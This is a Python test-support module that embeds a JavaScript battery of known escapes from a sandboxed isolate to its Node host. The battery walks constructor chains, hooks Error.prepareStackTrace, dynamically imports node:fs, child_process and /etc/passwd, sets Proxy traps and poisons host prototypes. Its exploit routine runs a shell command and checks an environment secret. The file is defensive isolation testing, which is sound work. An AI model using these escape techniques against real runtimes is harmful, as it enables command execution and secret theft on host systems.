"""A battery of known escapes from a JavaScript realm to its Node host, as module source.

`BATTERY` defines `escapeBattery()`, an async function that tries each way out a query,
mutation or isolate action has been known to have and resolves to `{name: outcome}`: an
outcome starting with "ESCAPED" names what it reached of the host (Node's `process`,
`require`, a builtin module, a writable host prototype). What it would do with them —
read `INSTANCE_SECRET` from the environment, the credentials file, the database file,
start a process, open a socket — is in `exploit`. The runtime tests run it in hand-made
modules, the black-box test in a TypeScript module pushed with the official CLI.
"""

from __future__ import annotations

BATTERY = r"""
const HOST_OUTCOMES = [];

// What function code would do with the host's `process`: everything a secret is in.
function exploit(proc, via) {
  if (proc === null || (typeof proc !== "object" && typeof proc !== "function")) return null;
  let isHost = false;
  try {
    isHost = typeof proc.pid === "number" || typeof proc.getBuiltinModule === "function" || typeof proc.binding === "function";
  } catch {}
  if (!isHost) return null;
  const got = [`host process via ${via}`];
  try {
    const fs = proc.getBuiltinModule("fs");
    got.push(`fs (${typeof fs.readFileSync})`);
    const cp = proc.getBuiltinModule("child_process");
    got.push(`child_process: ${cp.execSync("id").toString().trim()}`);
  } catch (e) {
    got.push(`but: ${e && e.message}`);
  }
  try {
    got.push(`INSTANCE_SECRET ${typeof proc.env.INSTANCE_SECRET}`);
  } catch {}
  return "ESCAPED: " + got.join("; ");
}

// From any value, the known ways to a Function constructor (the host's, if the value is
// the host's): its constructor chains. Only Function-like constructors are called.
function viaConstructors(value, label) {
  if (value === null || value === undefined) return null;
  const reach = [
    () => value.constructor,
    () => value.constructor.constructor,
    () => Object.getPrototypeOf(value).constructor,
    () => Object.getPrototypeOf(value).constructor.constructor,
    () => value.__proto__.constructor.constructor,
  ];
  for (const step of reach) {
    let maker;
    try {
      maker = step();
    } catch {
      continue;
    }
    if (typeof maker !== "function" || !/Function$/.test(maker.name)) continue;
    for (const body of ["return process", "return globalThis.process", "return this.process"]) {
      let got;
      try {
        got = maker(body)();
      } catch {
        continue;
      }
      const escaped = exploit(got, label);
      if (escaped) return escaped;
    }
  }
  return null;
}

function record(results, name, outcome) {
  results[name] = outcome ?? "blocked";
}

async function hostValues() {
  // Host objects a function can get hold of: Web API instances and what they return.
  const out = {};
  const grab = async (name, make) => {
    try {
      out[name] = await make();
    } catch (e) {
      out[name] = e; // a host error is a host object too
    }
  };
  await grab("url", () => new URL("https://example.com/?a=1"));
  await grab("searchParams", () => new URL("https://example.com/?a=1").searchParams);
  await grab("urlError", () => new URL("::not a url"));
  await grab("textEncoded", () => new TextEncoder().encode("x"));
  await grab("cloned", () => structuredClone({ a: [1] }));
  await grab("clonedArray", () => structuredClone([1]));
  await grab("responseJson", () => new Response('{"a":[1]}').json());
  await grab("responseBody", () => new Response("x").body);
  await grab("reader", () => new Response("x").body.getReader());
  await grab("blobBuffer", () => new Blob(["x"]).arrayBuffer());
  await grab("headersIterator", () => new Headers({ a: "b" }).entries());
  await grab("digest", () => crypto.subtle.digest("SHA-256", new Uint8Array(1)));
  await grab("digestPromise", () => ({ p: crypto.subtle.digest("SHA-256", new Uint8Array(1)) }).p);
  await grab("abortSignal", () => new AbortController().signal);
  await grab("event", () => new Event("x"));
  await grab("messagePort", () => new MessageChannel().port1);
  await grab("domException", () => new DOMException("x"));
  return out;
}

async function escapeBattery() {
  const results = {};

  // 1. Constructor chains of every global, of what constructing it gives, and of the
  //    host objects Web APIs return.
  for (const name of Object.getOwnPropertyNames(globalThis).sort()) {
    let value;
    try {
      value = globalThis[name];
    } catch {
      continue;
    }
    let outcome = viaConstructors(value, `globalThis.${name}`);
    if (!outcome && typeof value === "function") {
      outcome = viaConstructors(value.prototype, `${name}.prototype`);
      if (/^[A-Z]/.test(name)) {
        try {
          outcome ??= viaConstructors(new value(), `new ${name}()`);
        } catch {}
      }
    }
    if (!outcome && value !== null && typeof value === "object") {
      for (const key of Object.getOwnPropertyNames(value)) {
        try {
          outcome ??= viaConstructors(value[key], `${name}.${key}`);
        } catch {}
      }
    }
    record(results, `constructor chain of ${name}`, outcome);
  }
  const values = await hostValues();
  for (const [name, value] of Object.entries(values)) {
    record(results, `constructor chain of a host ${name}`, viaConstructors(value, name));
  }

  // 2. Error.prepareStackTrace: the call sites of every frame, host frames included.
  {
    let outcome = null;
    const saved = Error.prepareStackTrace;
    try {
      Error.prepareStackTrace = (error, sites) => {
        for (const site of sites) {
          for (const getter of ["getThis", "getFunction", "getTypeName", "getEvalOrigin"]) {
            try {
              const got = site[getter]();
              outcome ??= exploit(got, `CallSite.${getter}`) ?? viaConstructors(got, `CallSite.${getter}`);
            } catch {}
          }
        }
        return "";
      };
      void new Error("sites").stack;
    } finally {
      Error.prepareStackTrace = saved;
    }
    record(results, "Error.prepareStackTrace call sites", outcome);
  }
  {
    // The host's own Error (through a host TypeError): its prepareStackTrace would see
    // host frames and host errors.
    let outcome = null;
    try {
      const HostError = Object.getPrototypeOf(values.urlError.constructor);
      HostError.prepareStackTrace = (error, sites) => {
        for (const site of sites) outcome ??= exploit(site.getThis(), "host CallSite.getThis");
        return "poisoned";
      };
      outcome ??= "ESCAPED: the host's Error.prepareStackTrace is writable";
      HostError.prepareStackTrace = undefined;
    } catch {}
    record(results, "host Error.prepareStackTrace", outcome);
  }

  // 3. import(): Node's builtins and files, directly, from eval and from new Function.
  for (const specifier of ["node:fs", "node:child_process", "fs", "process", "file:///etc/passwd", "data:text/javascript,export default process"]) {
    for (const [how, load] of [
      ["import()", () => import(specifier)],
      ["eval(import())", () => eval(`import(${JSON.stringify(specifier)})`)],
      ["new Function(import())", () => new Function(`return import(${JSON.stringify(specifier)})`)()],
    ]) {
      let outcome = null;
      try {
        const module = await load();
        outcome = `ESCAPED: ${how} of ${specifier} gave ${Object.keys(module).slice(0, 5).join(",")}`;
      } catch {}
      record(results, `${how} of ${specifier}`, outcome);
    }
  }

  // 4. WebAssembly, SharedArrayBuffer and Atomics: their constructors and what they make.
  {
    let outcome = null;
    try {
      const bytes = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]);
      const module = await WebAssembly.compile(bytes);
      const instance = await WebAssembly.instantiate(module, {});
      outcome = viaConstructors(module, "WebAssembly.Module") ?? viaConstructors(instance, "WebAssembly.Instance") ?? viaConstructors(WebAssembly, "WebAssembly");
    } catch {}
    record(results, "WebAssembly", outcome);
  }
  {
    let outcome = null;
    try {
      const shared = new SharedArrayBuffer(8);
      Atomics.wait(new Int32Array(shared), 0, 1, 0);
      outcome = viaConstructors(shared, "SharedArrayBuffer") ?? viaConstructors(Atomics, "Atomics");
    } catch {}
    record(results, "SharedArrayBuffer and Atomics", outcome);
  }

  // 5. Proxy traps on objects handed to host APIs: whatever the host passes to a trap.
  {
    let outcome = null;
    let inTrap = false;
    const spy = (label) => {
      const proxy = new Proxy(function () {}, {
        get(target, key, receiver) {
          if (receiver !== proxy && !inTrap) {
            inTrap = true; // the chains below read properties of the receiver
            outcome ??= viaConstructors(receiver, `${label} get receiver`);
            inTrap = false;
          }
          if (key === Symbol.toPrimitive) return () => "https://example.com/";
          if (key === "toString" || key === "valueOf") return () => "https://example.com/";
          if (key === "then") return undefined;
          return Reflect.get(target, key);
        },
        apply(target, self, args) {
          for (const arg of args) outcome ??= exploit(arg, `${label} apply`) ?? viaConstructors(arg, `${label} apply`);
          if (typeof args[0] === "function") args[0]("x"); // a thenable's resolve
          return "x";
        },
        ownKeys(target) {
          return Reflect.ownKeys(target);
        },
      });
      return proxy;
    };
    const uses = [
      ["URL", () => new URL(spy("URL"))],
      ["URLSearchParams", () => new URLSearchParams(spy("URLSearchParams"))],
      ["structuredClone", () => structuredClone({ a: spy("structuredClone") })],
      ["Response", () => new Response(spy("Response"))],
      ["Request", () => new Request(spy("Request"))],
      ["Headers", () => new Headers(spy("Headers"))],
      ["TextEncoder", () => new TextEncoder().encode(spy("TextEncoder"))],
      ["Blob", () => new Blob([spy("Blob")])],
      ["console.log", () => console.log(spy("console.log"))],
      ["EventTarget", () => new EventTarget().addEventListener("x", spy("EventTarget"))],
      ["AbortSignal", () => AbortSignal.any([spy("AbortSignal")])],
      ["promise", () => Promise.resolve({ then: spy("then") })],
    ];
    for (const [label, use] of uses) {
      try {
        await use();
      } catch {}
    }
    record(results, "Proxy traps on objects handed to host APIs", outcome);
  }

  // 6. Poisoning the host's prototypes (the worker's own code uses them).
  const poison = [
    ["Object.prototype", () => Object.getPrototypeOf(Object.getPrototypeOf(URL.prototype))],
    ["Function.prototype", () => Object.getPrototypeOf(URL)],
    ["Array.prototype", () => Object.getPrototypeOf(values.clonedArray)],
    ["Promise.prototype", () => Object.getPrototypeOf(values.digestPromise ?? Promise.resolve())],
    ["URL.prototype", () => URL.prototype],
    ["Error", () => Object.getPrototypeOf(values.urlError.constructor)],
  ];
  for (const [name, get] of poison) {
    let outcome = null;
    try {
      const target = get();
      // Only the host's: this realm's own prototypes are the function's to change.
      if (target !== Object.prototype && !(target instanceof Object)) {
        target.__bayouPoisoned = 1;
        if (target.__bayouPoisoned === 1) {
          outcome = `ESCAPED: the host's ${name} is writable`;
          delete target.__bayouPoisoned;
        }
      }
    } catch {}
    record(results, `poisoning the host's ${name}`, outcome);
  }

  // 7. The environment of the process and the function's own process object.
  record(
    results,
    "process.env",
    typeof process.env.INSTANCE_SECRET === "string" ? "ESCAPED: INSTANCE_SECRET in process.env" : null,
  );
  record(results, "globalThis.process", exploit(globalThis.process, "globalThis.process"));
  return results;
}
"""


def hand_made_module() -> str:
    """The battery as a module of hand-made Convex functions (what the `convex` package's
    `query`, `mutation` and `action` wrappers export): `battery` in each kind."""
    return (
        BATTERY
        + """
const run = async () => JSON.stringify(await escapeBattery());
export const query = { isQuery: true, isPublic: true, invokeQuery: run };
export const mutation = { isMutation: true, isPublic: true, invokeMutation: run };
export const action = { isAction: true, isPublic: true, invokeAction: run };
export const fine = { isQuery: true, isPublic: true, invokeQuery: async () => '"fine"' };
"""
    )
